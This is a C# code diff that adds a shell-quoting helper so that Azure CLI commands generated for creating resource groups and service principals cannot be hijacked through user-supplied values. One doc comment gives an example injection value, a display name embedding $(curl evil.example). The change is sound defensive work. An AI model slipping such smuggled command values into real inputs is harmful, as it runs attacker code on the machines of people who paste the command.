@@ -61,14 +61,36 @@ public sealed record CreateServicePrincipalCommand
     {
         var lines = new List<string>();
         if (ResourceGroupMode == ResourceGroupMode.New)
-            lines.Add($"az group create --subscription {SubscriptionId.Trim()} -n {ResourceGroupName.Trim()} -l {Location}");
+            lines.Add($"az group create --subscription {Shell.Word(SubscriptionId.Trim())} -n {Shell.Word(ResourceGroupName.Trim())} -l {Shell.Word(Location)}");
         var lifetime = Lifetime.Kind == CredentialLifetimeKind.EndDate && Lifetime.EndDate is { } d
             ? $"--end-date {d:yyyy-MM-dd}"
             : $"--years {Lifetime.Years}";
-        var scopes = string.Join(' ', AllScopes.Select(s => $"\"{s}\""));
-        lines.Add($"az ad sp create-for-rbac -n \"{DisplayName.Trim()}\" --role contributor --scopes {scopes} {lifetime}");
+        var scopes = string.Join(' ', AllScopes.Select(Shell.Quoted));
+        lines.Add($"az ad sp create-for-rbac -n {Shell.Quoted(DisplayName.Trim())} --role contributor --scopes {scopes} {lifetime}");
         return string.Join('\n', lines);
     }
+}
+
+/// <summary>
+/// Quoting for bash and zsh, so a command copied from the portal passes each value as one argument and runs
+/// nothing else: a display name such as <c>x" $(curl evil.example) "</c> stays a name.
+/// </summary>
+public static class Shell
+{
+    /// <summary>Bare when only characters the shell never interprets; otherwise quoted.</summary>
+    public static string Word(string value) =>
+        value.Length > 0 && value.All(c => char.IsAsciiLetterOrDigit(c) || c is '-' or '_' or '.' or '/' or ':' or '@' or ',' or '+')
+            ? value
+            : Quoted(value);
+
+    /// <summary>
+    /// In double quotes when nothing inside expands there (no <c>$</c>, backtick, backslash, <c>"</c> or history
+    /// <c>!</c>); else in single quotes, where nothing expands, with each <c>'</c> written as <c>'\''</c>.
+    /// </summary>
+    public static string Quoted(string value) =>
+        value.Any(c => c is '"' or '$' or '`' or '\\' or '!')
+            ? "'" + value.Replace("'", "'\\''") + "'"
+            : $"\"{value}\"";
 }
 
 /// <summary>A new password for an existing service principal; replace drops the old ones, append keeps them.</summary>
